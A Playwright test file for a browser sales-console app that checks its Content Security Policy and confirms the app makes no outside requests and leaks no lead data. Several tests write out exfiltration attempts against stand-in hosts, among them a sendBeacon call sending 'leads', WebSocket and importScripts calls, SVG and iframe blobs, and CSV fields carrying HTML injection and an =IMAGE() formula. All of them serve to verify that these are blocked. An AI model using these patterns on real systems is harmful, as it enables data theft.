import { BAIT_HOST, strayRequests } from './canary'
import {
  chooseInMenu,
  expect,
  names,
  openLead,
  openStorage,
  PAGE_SIZE,
  SERVICE_WORKER_BLOCKED,
  test,
  toast,
} from './console'
import { startHost } from './host'
import { beforeWorker, WORKER_SCRIPT } from './requests'
import { gatesScript, workerOf } from './timers'

test('[TRUST-1] a whole day of work makes no request after the start, and none elsewhere', async ({
  console: { page, open },
}) => {
  const nameOf = (url: string) => new URL(url).pathname.replace('/assets/', '').replace(/-[\w-]{8}\./, '.')
  const byPage: string[] = []
  page.context().on('request', (request) => byPage.push(nameOf(request.url())))
  async function requests() {
    // Requests of a worker are reported late, or never: it is asked itself.
    const worker = await workerOf(page)
    const byWorker = await worker.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name))
    return { byPage: [...new Set(byPage)].toSorted(), byWorker }
  }

  await open()
  const start = { byPage: ['/', '/logo.png', 'index.css', 'index.js', 'worker.js'], byWorker: [] }
  await expect.poll(requests).toEqual(start)
  await page.getByRole('searchbox').fill('an')
  await openLead(page)
  await page.getByRole('button', { name: 'convert to opportunity' }).click()
  await expect(toast(page, 'Lead converted to opportunity!')).toBeVisible()
  await page.getByRole('tab', { name: 'Opportunities' }).click()
  await page.getByRole('button', { name: 'Keyboard shortcuts' }).click()
  await expect(page.getByRole('dialog', { name: 'Keyboard shortcuts' })).toBeVisible()
  expect(await requests()).toEqual(start)
})

test('[TRUST-1] work on files makes no request either: they are read, written and offered in the page and its worker', async ({
  console: { page, open },
}) => {
  const requested: string[] = []
  page.context().on('request', (request) => requested.push(request.url()))
  const offered: string[] = []
  page.on('download', (file) => offered.push(file.url()))
  await open()
  const worker = await workerOf(page)
  // Each of the files below is written by the worker, and offered by the page.
  async function download(act: () => Promise<void>): Promise<string> {
    const waiting = page.waitForEvent('download')
    await act()
    return (await waiting).path()
  }
  const started = [...requested]
  const dialog = page.getByRole('dialog')
  const fileField = dialog.locator('input[type=file]')

  await chooseInMenu(page, 'Import leads…')
  const buffer = Buffer.from('Name,Email\nGrace Hopper,grace@example.com\n,nobody@example.com\n')
  await fileField.setInputFiles({ name: 'leads.csv', mimeType: 'text/csv', buffer })
  await dialog.getByRole('button', { name: 'Show unreadable rows' }).click()
  await download(() => dialog.getByRole('button', { name: 'Download with reasons' }).click())
  await page.getByRole('button', { name: 'Import 1 lead', exact: true }).click()
  await expect(names(page)).toHaveText(['Grace Hopper'])
  await chooseInMenu(page, 'Import leads…')
  await dialog.getByRole('textbox', { name: 'Paste rows' }).fill('Ada,ada@x.example\nJörg,jm@y.example')
  await page.getByRole('button', { name: 'Import 2 leads', exact: true }).click()
  await expect(names(page)).toHaveCount(3)
  await download(() => chooseInMenu(page, 'Export leads'))
  const backup = await download(() => chooseInMenu(page, 'Download backup'))
  await chooseInMenu(page, 'Restore backup…')
  await fileField.setInputFiles(backup)
  await dialog.getByRole('button', { name: 'Restore', exact: true }).click()
  await expect(toast(page, 'Backup restored: 3 leads')).toBeVisible()
  await openStorage(page)
  await expect(page.getByText(/The browser (has agreed to leave|may remove) your data/)).toBeVisible()

  expect(offered).toHaveLength(3)
  for (const address of offered) expect(address).toMatch(/^blob:/)
  expect(requested.filter((address) => !address.startsWith('blob:'))).toEqual(started)
  expect(await worker.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name))).toEqual([])
})

test('[TRUST-2] the policy stands in the page and in the headers of page, script and worker', async ({
  console: { page, open },
}) => {
  const policies = new Map<string, string | undefined>()
  page.on('response', (response) => {
    policies.set(new URL(response.url()).pathname, response.headers()['content-security-policy'])
  })
  const worker = page.waitForResponse(WORKER_SCRIPT)
  await open()
  await worker
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
  for (const directive of [
    "default-src 'none'",
    "script-src 'self'",
    "connect-src 'none'",
    "require-trusted-types-for 'script'",
  ]) {
    expect(meta).toContain(directive)
    for (const [path, policy] of policies) expect(policy, path).toContain(directive)
  }
  expect([...policies.keys()].some((path) => path.includes('worker'))).toBe(true)
})

test('[TRUST-2] the policy stops what is not ours', async ({ page }) => {
  await page.goto('/')
  await expect(names(page).first()).toBeVisible()
  const stopped = await page.evaluate(async () => {
    const outcomes: Record<string, boolean> = {}
    outcomes['request'] = await fetch('/logo.png').then(
      () => false,
      () => true,
    )
    try {
      document.body.innerHTML = '<p>markup</p>'
      outcomes['markup'] = false
    } catch {
      outcomes['markup'] = true
    }
    try {
      outcomes['worker'] = !(new Worker('/assets/other.js') instanceof Worker)
    } catch {
      outcomes['worker'] = true
    }
    return outcomes
  })
  expect(stopped).toEqual({ request: true, markup: true, worker: true })
})

test('[TRUST-2] the worker, which reads the files, and what a page makes out of a file may request nothing either', async ({
  page,
}) => {
  const host = `files.${BAIT_HOST}`
  await page.goto('/')
  await expect(names(page).first()).toBeVisible()
  const worker = await workerOf(page)
  const inWorker = await worker.evaluate(async (address) => {
    const isStopped = async (act: () => unknown) => {
      try {
        await act()
        return false
      } catch {
        return true
      }
    }
    const until = (target: EventTarget) =>
      new Promise((resolve, reject) => {
        target.addEventListener('open', resolve)
        target.addEventListener('message', resolve)
        target.addEventListener('error', reject)
      })
    const script = URL.createObjectURL(new Blob([`fetch('https://${address}/')`], { type: 'text/javascript' }))
    return {
      fetch: await isStopped(() => fetch(`https://${address}/`, { mode: 'no-cors' })),
      own: await isStopped(() => fetch('/logo.png')),
      blob: await isStopped(() => fetch(script)),
      socket: await isStopped(() => until(new WebSocket(`wss://${address}/`))),
      events: await isStopped(() => until(new EventSource(`https://${address}/`))),
      worker: await isStopped(() => until(new Worker(script))),
      script: await isStopped(() => (self as unknown as { importScripts(url: string): void }).importScripts(script)),
    }
  }, host)
  for (const [way, isStopped] of Object.entries(inWorker)) expect(isStopped, way).toBe(true)

  await page.evaluate((address) => {
    const from = (text: string, type: string) => URL.createObjectURL(new Blob([text], { type }))
    const add = (name: string, attributes: Record<string, string>) => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      document.body.append(element)
    }
    navigator.sendBeacon(`https://${address}/`, 'leads')
    add('img', { src: `https://${address}/1.png` })
    add('link', { rel: 'prefetch', href: `https://${address}/2` })
    // A drawing and a page out of a file, which refer to others.
    add('img', {
      src: from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="https://${address}/3"/></svg>`, 'image/svg+xml'),
    })
    add('iframe', { src: from(`<img src="https://${address}/4">`, 'text/html') })
  }, host)
  await page.getByRole('searchbox').fill('an')
  await expect(page.getByRole('status').first()).toHaveText(/of 100 leads/)
  expect(strayRequests().filter((request) => request.includes(host))).toEqual([])
})

test('[TRUST-3] what a lead says is in no log, title or address', async ({ console: { page, open } }) => {
  const addresses: string[] = []
  const logged: string[] = []
  page.on('framenavigated', (frame) => addresses.push(frame.url()))
  page.on('console', (message) => message.text() !== SERVICE_WORKER_BLOCKED && logged.push(message.text()))
  await open()
  const start = page.url()
  const titles = await page.evaluateHandle(() => {
    const seen = [document.title]
    new MutationObserver(() => seen.push(document.title)).observe(document.head, {
      childList: true,
      characterData: true,
      subtree: true,
    })
    return seen
  })

  const name = await names(page).first().innerText()
  await page.getByRole('searchbox').fill(name)
  await expect(names(page)).toHaveText([name])
  await openLead(page)
  await page.getByRole('button', { name: 'edit lead' }).click()
  await page.getByRole('textbox', { name: 'Email' }).fill('ada@example.com')
  await page.getByRole('button', { name: 'save' }).click()
  await expect(toast(page, 'Lead updated successfully!')).toBeVisible()
  await openLead(page)
  await page.getByRole('button', { name: 'convert to opportunity' }).click()
  await expect(toast(page, 'Lead converted to opportunity!')).toBeVisible()
  await chooseInMenu(page, 'Import leads…')
  const buffer = Buffer.from('Name,Company,Email\nGrace Hopper,Navy,grace@example.com\n')
  await page.locator('input[type=file]').setInputFiles({ name: 'leads.csv', mimeType: 'text/csv', buffer })
  await page.getByRole('button', { name: 'Import 1 lead', exact: true }).click()
  await page.getByRole('searchbox').fill('grace')
  await expect(names(page)).toHaveText(['Grace Hopper'])

  expect(addresses).toEqual([start])
  expect(await titles.jsonValue()).toEqual(['Sales Console'])
  expect(logged).toEqual([])
})

test('[TRUST-4] leads full of addresses and markup make the browser request nothing', async ({
  console: { page, open },
}) => {
  const host = 'http://leak.example'
  const texts = [`<img src=${host}/1.png>`, `${host}/2`, `=IMAGE("${host}/3")`, `"><link rel=preload href=${host}/4>`]
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
  const rows = texts.map((text, at) => [text, text, `a${at}@leak.example`, text].map(quoted).join())
  await open()
  await chooseInMenu(page, 'Import leads…')
  const buffer = Buffer.from(`Name,Company,Email,Source\n${rows.join('\n')}\n`)
  await page
    .getByRole('dialog')
    .locator('input[type=file]')
    .setInputFiles({ name: 'leak.example.csv', mimeType: 'text/csv', buffer })
  await page.getByRole('button', { name: 'Import 4 leads' }).click()
  await expect(names(page)).toHaveCount(4)
  await page.getByRole('searchbox').fill('leak.example')
  for (const [at] of texts.entries()) {
    await names(page).nth(at).hover()
    await openLead(page, at)
    await page.getByRole('dialog').getByRole('link').hover()
    await page.keyboard.press('Escape')
  }
  await page.getByRole('tab', { name: 'Opportunities' }).click()
})

test('[TRUST-4] a request elsewhere is noticed by the canary, one that says too much by the server', async ({
  page,
  baseURL,
}) => {
  await page.goto('about:blank')
  await page.evaluate((address) => fetch(address, { mode: 'no-cors' }).catch(() => {}), `https://${BAIT_HOST}/`)
  await page.goto(`${baseURL}?search=${BAIT_HOST}`)
  const seen = () => strayRequests().filter((request) => request.includes(BAIT_HOST))
  await expect.poll(() => seen().some((request) => request.startsWith('elsewhere: '))).toBe(true)
  expect(seen()).toContain(`here: GET /?search=${BAIT_HOST}`)
})

test('[SERVE-3] the built folder works from a path of a static host, and asks for nothing outside it', async ({
  page,
}) => {
  const host = await startHost('dist', '/tools/sales/')
  await beforeWorker(page, gatesScript)
  const faults: string[] = []
  page.on('console', (message) => message.type() === 'error' && faults.push(message.text()))
  page.on('request', (request) => {
    if (!request.url().startsWith(host.address)) faults.push(request.url())
  })
  await page.goto(host.address)
  await expect(names(page)).toHaveCount(PAGE_SIZE)
  await openLead(page)
  await page.getByRole('button', { name: 'convert to opportunity' }).click()
  await expect(toast(page, 'Lead converted to opportunity!')).toBeVisible()
  expect(await page.locator('img.logo').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0)
  expect(faults).toEqual([])
  host.close()
})
